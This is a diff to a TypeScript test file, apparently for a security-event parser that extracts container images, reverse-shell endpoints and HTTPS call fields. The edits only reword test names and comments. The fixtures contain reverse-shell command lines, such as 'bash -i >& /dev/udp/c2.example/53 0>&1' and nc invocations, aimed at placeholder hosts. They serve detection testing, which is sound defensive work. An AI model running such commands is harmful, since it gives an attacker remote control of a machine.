@@ -13,7 +13,7 @@ describe('the image of a container', () => {
   test.each<[string[], object]>([
     [['docker', 'run', 'alpine'], { image_name: 'alpine' }],
     [['run', 'alpine:3.20', 'sh'], { image_name: 'alpine', image_tags: ['3.20'] }],
-    // A number behind a colon is a port only where a path follows.
+    // A number after a colon is a port only if a path follows.
     [['run', 'alpine:3'], { image_name: 'alpine', image_tags: ['3'] }],
     [
       [
@@ -53,7 +53,7 @@ describe('the image of a container', () => {
     expect(containerOf(...args)).toEqual({ runtime: 'docker', ...image });
   });
 
-  it('is left out where arguments are one text, and there is no container without a runtime', () => {
+  it('is absent when arguments are one text, and there is no container without a runtime', () => {
     const event = (exe: string) => ({ exe, arguments: 'docker run alpine' });
     const of = (exe: string) =>
       read(payloadOf('Privileged-Container', { process_events: [event(exe)] })).container;
@@ -92,7 +92,7 @@ describe('the far end of a reverse shell', () => {
       { ip: '203.0.113.9', port: 4_444 },
     ],
     [
-      'bash in one text',
+      'bash as one text',
       { exe: '/bin/bash', arguments: 'bash -i >& /dev/udp/c2.example/53 0>&1' },
       { domain: 'c2.example', port: 53 },
     ],
@@ -104,7 +104,7 @@ describe('the far end of a reverse shell', () => {
     ['a listener', { exe: 'nc', arguments: ['nc', '-lvp', '4444'] }],
     ['a listener with a long flag', { exe: 'ncat', arguments: ['ncat', '--listen', '0.0.0.0', '4444'] }],
     ['a port alone', { exe: 'nc', arguments: ['nc', '4444'] }],
-    ['a port that is none', { exe: 'nc', arguments: ['nc', 'c2.example', '99999'] }],
+    ['an invalid port', { exe: 'nc', arguments: ['nc', 'c2.example', '99999'] }],
     ['a variable', { exe: 'bash', arguments: 'bash -i >& /dev/tcp/$HOST/4444' }],
     ['another program', { exe: '/bin/cat', arguments: ['cat', 'c2.example', '4444'] }],
     ['no arguments', { exe: 'nc' }],
@@ -112,20 +112,20 @@ describe('the far end of a reverse shell', () => {
     expect(shellOf(event)).toBeUndefined();
   });
 
-  it('gives way to an endpoint in the payload, and can be turned off', () => {
+  it('yields to an endpoint in the payload, and can be turned off', () => {
     const event = { exe: 'nc', arguments: ['nc', '203.0.113.9', '4444'] };
     expect(shellOf(event, { deriveDestination: false })).toBeUndefined();
     const said = (endpoint: string) =>
       read(payloadOf('Reverse-Shell', { process_events: [event], endpoint })).endpoint;
     expect(said('said.example:1')?.domain).toBe('said.example');
-    // What is no host hides none.
+    // A value that is not a host does not hide one.
     expect(said(':443')).toMatchObject({ raw: ':443', ip: '203.0.113.9', port: 4_444 });
   });
 });
 
 describe('an HTTPS call', () => {
   const httpOf = (fields: JsonObject) => read(payloadOf('HTTPS-Outbound-Network-Call', fields));
-  it('is read whole', () => {
+  it('is read completely', () => {
     const { http, direction, file } = httpOf({
       host: 'API.github.com',
       method: 'POST',
@@ -142,7 +142,7 @@ describe('an HTTPS call', () => {
     });
     expect([direction, file]).toEqual(['egress', undefined]);
   });
-  it('does without what is missing or strange', () => {
+  it('copes with missing or strange members', () => {
     expect(httpOf({ host: 'a.example:8443' }).http).toEqual({
       scheme: 'https',
       domain: 'a.example',
@@ -172,7 +172,7 @@ test.each<[string, JsonObject, string | undefined]>([
   ['Brand-New', { endpoint: 'a.example:443', host: 'a.example', path: '/x' }, 'tcp'],
   ['Brand-New', { path: 'https://a.example/x' }, 'tcp'],
   ['Brand-New', { endpoint: 'a.example:443/udp', host: 'a.example', path: '/x' }, 'udp'],
-  // A host alone may be asked by anything.
+  // Anything may have asked for a host without a URL.
   ['Brand-New', { host: 'a.example' }, undefined],
   ['Brand-New', { host: 'a.example', method: 'a b' }, undefined],
   ['Source-Code-Overwritten', { endpoint: 'a.example:443', path: '/x' }, undefined],
@@ -214,7 +214,7 @@ describe('the parts of a URL', () => {
         full: 'http://evil.example:81',
         to: 'proxy.example',
         hosts: ['proxy.example', 'evil.example'],
-        // HTTP wants both to be the same.
+        // HTTP requires both to be the same.
         warnings: ['host_mismatch'],
       },
     ],
